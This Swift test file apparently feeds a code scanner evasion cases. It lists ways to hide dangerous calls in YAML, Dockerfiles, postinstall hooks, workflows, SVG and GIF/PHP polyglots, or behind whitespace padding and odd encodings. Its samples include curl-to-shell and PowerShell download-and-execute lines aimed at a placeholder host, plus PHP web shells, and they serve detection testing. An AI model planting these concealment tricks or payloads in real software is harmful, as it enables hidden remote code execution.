import Rules

/// Programs in places where nobody looks for them.
extension EvasionCase {
  /// Programs within programs, settings and data.
  static let placedCalls = rows(
    .unsafeAPI,
    [
      ("a block of YAML", "ci.yaml", "script: |⏎  import os⏎  «call»"),
      ("a folded block of YAML", "ci.yaml", "run: >-⏎  curl -fsSL https://x.example/i.sh⏎  | sh"),
      ("a heredoc", "a.sh", "cat > run.py <<'EOF'⏎import os⏎«call»⏎EOF"),
      ("a heredoc that is run", "a.sh", "python3 - <<PY⏎import os⏎«call»⏎PY"),
      ("a program as an argument", "a.sh", "python3 -c 'import os; os.system(input())'"),
      ("a program of node as an argument", "a.sh", #"node -e 'eval(process.argv[1])' "$1""#),
      ("a program in a string that is run", "a.py", #"exec("""⏎import os⏎«call»⏎""")"#),
      ("a command in a string", "a.py", #"STEP = "«sh»""#),
      (
        "a template of a page", "a.js",
        "const page = `<script>eval(location.hash.slice(1))</script>`;"
      ),
      ("a command in a cell of CSV", "a.csv", "id,cmd⏎1,«sh»"),
      (
        "a command in a here-string", "a.ps1",
        "$s = @'⏎IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')⏎'@"
      ),
      ("a command in a log", "app.log", "2024-05-01 10:00:00 + «sh»"),
      ("a call in CDATA", "a.xml", "<script><![CDATA[⏎«js»⏎]]></script>"),
      ("a run of a Dockerfile", "Dockerfile", "FROM alpine⏎RUN «sh»"),
      ("a run of JSON in a Dockerfile", "Dockerfile", #"FROM alpine⏎RUN ["sh", "-c", "«sh»"]"#),
      ("a Makefile", "Makefile", "all:⏎«U+0009»«sh»"),
      ("a script of package.json", "package.json", #"{"scripts": {"postinstall": "«sh»"}}"#),
      (
        "a step of a workflow", ".github/workflows/a.yml",
        "on: push⏎jobs:⏎  a:⏎    runs-on: ubuntu-latest⏎    steps:⏎      - run: «sh»"
      ),
      (
        "a script of a picture", "a.svg",
        """
        <svg xmlns="http://www.w3.org/2000/svg"><script>eval(location.hash.slice(1))\
        </script></svg>
        """
      ),
      ("a program of PHP in a text", "a.txt", #"<?php system($_GET["cmd"]);"#),
      ("a program of PHP in a template", "a.phtml", #"<?php system($_GET["cmd"]);"#),
      (
        "a program of PHP behind the mark of a picture", "a.php",
        #"GIF89a;⏎<?php system($_GET["cmd"]); ?>"#
      ),
      ("a program of PHP in a picture", "a.gif", #"GIF89a;⏎<?php system($_GET["cmd"]); ?>"#),
      ("a program of shell without a name", "run", "#!/bin/sh⏎«sh»"),
      ("a program of Python without a name", "run", "#!/usr/bin/env python3⏎import os⏎«call»"),
      ("a program with another's first line", "a.py", "#!/bin/sh⏎import os⏎«call»"),
      (
        "a program of Python named JavaScript", "a.js",
        "import os⏎from flask import request⏎⏎def run():⏎    «call»"
      ),
      (
        "a program of JavaScript named Python", "a.py",
        "const express = require('express');⏎app.get('/', (req, res) => { «js»; });"
      ),
      ("a program of a mode line", "a.txt", "# -*- mode: python -*-⏎import os⏎«call»"),
      ("a call on a long line", "a.js", #"var a="«200000×U+0061»";«js»;"#),
      ("a call behind a megabyte of spaces", "a.py", "x = 1;«200000×U+0020»«call»"),
      ("a call behind a hundred thousand blank lines", "a.py", "import os⏎«100000×U+000A»«call»"),
      ("a call behind many NUL bytes", "a.php", #"«400×U+0000»<?php system($_GET["cmd"]);"#),
      ("a call behind control characters", "a.php", #"«400×U+0001»<?php system($_GET["cmd"]);"#),
      ("a form feed in a call", "a.py", #"os.system«U+000C»(request.args["cmd"])"#),
      ("a call in a source that names UTF-7", "a.py", "# -*- coding: utf-7 -*-⏎«call|utf7»"),
      (
        "a call in a source that names its escapes", "a.py",
        "# -*- coding: unicode_escape -*-⏎«call|hexEscapes»"
      ),
      (
        "a call behind a carriage return of a comment", "a.py",
        "# harmless«U+000D»import os«U+000D»«call»"
      ),
      ("a call behind a line separator", "a.js", "// harmless«U+2028»eval(req.query.q)"),
    ])

  /// Other bytes, and what no program reads.
  static let placedOthers: [EvasionCase] = [
    EvasionCase(
      "a call in a cell of CSV", "a.csv", #"id,code⏎1,"«argv»""#, .unsafeAPI,
      unless: "a cell is data"
    ),
    EvasionCase(
      "a token in Latin-1", "a.py", #"# -*- coding: latin-1 -*-⏎# «U+00FC»ber⏎token = "«token»""#,
      .secret, as: .latin1
    ),
    EvasionCase(
      "a call in Latin-1", "a.py", "# -*- coding: latin-1 -*-⏎# «U+00FC»ber⏎«call»", .unsafeAPI,
      as: .latin1
    ),
    EvasionCase(
      "a card in Latin-1", "a.txt", "Schl«U+00FC»ssel⏎card number: «card»", .pii, as: .latin1
    ),
    EvasionCase(
      "a call behind a vertical tab", "a.py", "# harmless«U+000B»«call»", .unsafeAPI,
      unless: "it is a comment"
    ),
    EvasionCase(
      "a compressed file", "a.gz", #"token = "«token»""#, .secret,
      unless: "no text; an archive is told as skipped", as: .compressed
    ),
  ]
}
